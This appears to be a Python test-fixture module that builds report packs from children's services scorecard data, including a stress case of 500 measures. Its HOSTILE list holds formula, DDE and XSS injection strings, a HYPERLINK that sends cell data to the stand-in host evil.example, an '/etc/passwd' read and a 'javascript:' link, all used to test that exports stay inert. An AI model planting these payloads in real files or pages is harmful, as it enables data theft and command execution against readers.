"""Packs for the tests: as it stands, with scenarios, with names that try to be more than names, with 500 measures."""

from __future__ import annotations

import csv
from dataclasses import replace
from functools import cache
from io import StringIO
from pathlib import Path

import ragcore
from ragcore.scenario import Change, Scenario
from ragcore.scorecard import Scorecard
from ui.pack.pack import LABELS, Cover, Pack, Told

DATA = Path(__file__).parent.parent / "data"
REPORT = "buckinghamshire_2016_17_q2"
BY_YEAR = "buckinghamshire_by_year"
MADE = "5 December 2016, 09:30 UTC"
LINK = "https://scorecards.example.org/what-if?scorecard=report"
NO_COVER = Cover()
# What a program that opens a document might run, fetch or take for more than text. None has a space too many or a
# hidden character, so that each can be looked for to the letter.
HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '{ HYPERLINK "http://evil.example" }',
    '{=WEBSERVICE("http://evil.example")}',
    "DDEAUTO c:\\windows\\system32\\cmd.exe",
    "<script>alert(1)</script><b>bold</b> & <img src=x onerror=alert(2)>",
    '<w:fldSimple w:instr="AUTHOR"/>]]>&amp;&#x41;',
    '#set page(fill: red) #read("/etc/passwd") $x^2$ *strong* _emph_ @ref `raw` // comment',
    "[link](http://evil.example) **bold** | cell ~~gone~~ :material/home:",
    "{{7*7}} ${7*7} %s %d \\x41 \\u0041",
    "_x0041_ and _x000D_",
    "مؤشر الأداء",
    "儿童保护计划 ✅",
    "W" * 300,
    "“Quoted” names, with; every mark / \\ : * ? |",
)


@cache
def scorecard(name=REPORT):
    """A scorecard that ships."""
    found, _ = ragcore.read(DATA / f"{name}.csv")
    return found


def read(text):
    """A scorecard of a CSV's text."""
    found, problems = ragcore.read(text.encode())
    assert found is not None, problems
    return found


def pack(told=(), card=None, cover=NO_COVER, place=("", ""), **rest):
    """A pack of a scorecard, by default the committee report; told : its scenarios, each with a name.

    place : the area and the period, each "" for every one and the latest
    """
    card = card or scorecard()
    area, period = place
    position = card.position(area or None, period or None)
    shown = period or (card.periods[-1] if len(card.periods) == 1 else None)
    parts = tuple(Told.of(one.name, one, position) for one in told)
    about = {"area": area or None, "period": shown, "called": "A scorecard", "link": LINK, "made": MADE}
    return Pack(card, position, cover.over(Cover.of(card.about)), parts, **about | rest)


def by_year(told=()):
    """A pack of the scorecard by year, at its latest period."""
    card = scorecard(BY_YEAR)
    return pack(told, card, place=("", card.periods[-1]))


def winter_plan():
    """A scenario on the committee report: one measure turns green by its figure, one stays red, with reasons."""
    return Scenario(
        "Winter plan",
        (
            Change("looked-after-seen-6-weeks", "value", 95.5, "Two more social workers from January."),
            Change("repeat-referrals", "value", 26.0),
        ),
        note="As put to the board on 28 November.",
        period="2016/17 Q2",
        horizon="2016/17 Q4",
        created="2016-12-01T09:00:00Z",
    )


def lower_targets():
    """A scenario on the committee report that turns two measures green by their targets, one of them with a reason."""
    return Scenario(
        "Lower targets",
        (
            Change("assessments-45-days", "target", 82, "The national target is 80%."),
            Change("children-seen-assessment", "target", 93),
        ),
        period="2016/17 Q2",
        created="2016-12-01T10:00:00Z",
    )


def wider_rule():
    """A scenario on the committee report that changes the rule, a tolerance and a figure that was unavailable."""
    return Scenario(
        "A wider rule, and the missing figure",
        (
            Change("conferences-15-days", "amber", 8, "As the neighbours do."),
            Change("care-leavers-suitable-homes", "value", 86, "The first figures of October."),
        ),
        period="2016/17 Q2",
        rule={"green_within": 2},
        created="2016-12-01T11:00:00Z",
    )


def stands():
    """The committee report as it stands."""
    return pack()


def one():
    """The committee report with one scenario."""
    return pack([winter_plan()])


def several():
    """The committee report with three scenarios."""
    return pack([winter_plan(), lower_targets(), wider_rule()])


def hostile():
    """A scorecard whose every text tries to be more than text: names, services, the cover and a scenario's reasons."""
    columns = ["indicator", "service", "period", "unit", "value", "target", "amber", "key", "comment"]
    rows = [
        [name, f"{name} service", "2024/25 Q1", "%", (80, 78, 60)[at % 3], 80, 5, "yes" if at % 2 else "no", name]
        for at, name in enumerate(HOSTILE)
    ]
    kept = StringIO()
    csv.writer(kept).writerows([columns, *rows])
    card = read(kept.getvalue())
    texts = iter(HOSTILE)
    about = {name: next(texts) for name in ("title", "body", "source", "licence", "attribution", "illustrative")}
    card = Scorecard(card.figures, replace(card.about, **about), card.rule)
    ids = card.position().figures.id.tolist()
    changes = tuple(Change(ids[at], "value", 81.0 + at % 5, name) for at, name in enumerate(HOSTILE))
    typed = {name: HOSTILE[at] for at, name in enumerate(LABELS)}
    return pack(
        [Scenario(HOSTILE[0], changes, note=HOSTILE[3]), Scenario(HOSTILE[6], changes[:2], note=HOSTILE[8])],
        card,
        Cover(**typed),
        place=("", "2024/25 Q1"),
        link='javascript:alert(1)//"><b>',
    )


def of_500():
    """500 measures, every third of them key, with a scenario that moves ten of them."""
    lines = [
        f"Measure {at} of many,Service {at % 9},2024/25 Q1,%,{(80, 78, 60)[at % 3]},80,5,{'no' if at % 3 else 'yes'}"
        for at in range(500)
    ]
    card = read("\n".join(["indicator,service,period,unit,value,target,amber,key", *lines]) + "\n")
    ids = card.position().figures.id.tolist()
    changes = tuple(Change(each, "value", 85.0, "More hands.") for each in ids[:10])
    return pack([Scenario("Ten better", changes)], card, place=("", "2024/25 Q1"))
